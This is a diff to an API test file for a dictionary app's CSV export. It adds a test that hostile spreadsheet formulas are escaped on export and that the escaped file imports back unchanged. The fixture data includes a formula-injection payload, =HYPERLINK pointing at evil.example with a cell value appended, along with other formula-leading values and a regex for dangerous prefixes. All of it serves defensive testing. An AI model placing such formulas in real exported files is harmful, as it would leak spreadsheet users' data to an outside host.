@@ -6,12 +6,13 @@ import {
   dictionaryExportSchema,
   importTermKey,
   normalizeSpaces,
+  parseDelimited,
   parseImport,
   previewImport,
   termSchema,
   type ImportResult,
 } from '@wordhoard/shared';
-import { createTestApp, testDriver, type TestApp } from '../../../test/harness';
+import { createTestApp, testDriver, uniqueClientAddress, type TestApp } from '../../../test/harness';
 import { createUser } from '../../../test/fixtures';
 import { stateFingerprint } from '../../../test/state';
 
@@ -25,7 +26,15 @@ afterAll(async () => {
 
 type Cookie = { cookie: string };
 const call = (user: Cookie, method: 'GET' | 'POST' | 'PATCH' | 'DELETE', url: string, payload?: object) =>
-  t.app.inject({ method, url, headers: { cookie: user.cookie }, ...(payload ? { payload } : {}) });
+  t.app.inject({
+    method,
+    url,
+    headers: { cookie: user.cookie },
+    // Many imports in one file: each from its own client, so the per-client import limit
+    // (tested in client-limits.api.test.ts) does not decide these tests.
+    remoteAddress: uniqueClientAddress(),
+    ...(payload ? { payload } : {}),
+  });
 
 const words = (n: number, prefix = 'word') =>
   Array.from({ length: n }, (_, i) => ({
@@ -222,6 +231,43 @@ describe(`export (${testDriver})`, () => {
     expect(response.body.startsWith('\uFEFF')).toBe(true);
     const parsed = parseImport(response.body, { format: 'delimited', delimiter: ',' });
     expect(parsed.entries.map(({ term, definitions }) => ({ term, definitions }))).toEqual(original);
+  });
+
+  it('writes no cell a spreadsheet would run as a formula, and imports back to the same words', async () => {
+    const user = await createUser(t.app);
+    const hostile = [
+      { term: '=HYPERLINK("http://evil.example/?"&A1,"click")', definitions: ['+1', '-x'] },
+      { term: '@SUM(1)', definitions: ["'=x", 'a;=1+1'] },
+      { term: '-ing', definitions: ['@home', "'tis"] },
+      // Leading tabs and CRs are trimmed when a word is saved (SPEC §5 spaces rule).
+      { term: '\t+tab', definitions: ['\r-cr'] },
+    ];
+    const stored = hostile.map(({ term, definitions }) => ({
+      term: normalizeSpaces(term),
+      definitions: definitions.map(normalizeSpaces),
+    }));
+    const { dictionary } = await newDictionary(user, hostile, 'Formulas');
+    expect(await allTerms(user, dictionary.id)).toEqual(stored);
+
+    const csv = await call(user, 'GET', `/api/dictionaries/${dictionary.id}/export?format=csv`);
+    expect(csv.statusCode).toBe(200);
+    // Wherever a spreadsheet could start a cell (also with `;` or tab as its separator).
+    const cells = parseDelimited(csv.body, ',').flatMap((record) => record.cells);
+    expect(cells).toHaveLength(11);
+    for (const cell of cells) expect(cell).not.toMatch(/(?:^|[,;\t\r\n])[=+\-@\t\r]/);
+    expect(cells).toContain(`'=HYPERLINK("http://evil.example/?"&A1,"click")`);
+    expect(cells).toContain("''=x");
+    expect(cells).toContain("'tis");
+
+    const preview = previewImport(parseImport(csv.body, { format: 'delimited', delimiter: ',' }).entries, {
+      existingTerms: [],
+      existingCount: 0,
+      wordLimit: 5000,
+    });
+    expect(preview.blocked).toBe(false);
+    expect(preview.words).toEqual(stored);
+    const again = await newDictionary(user, preview.words, 'Formulas again');
+    expect(await allTerms(user, again.dictionary.id)).toEqual(stored);
   });
 
   it('downloads JSON with every field', async () => {
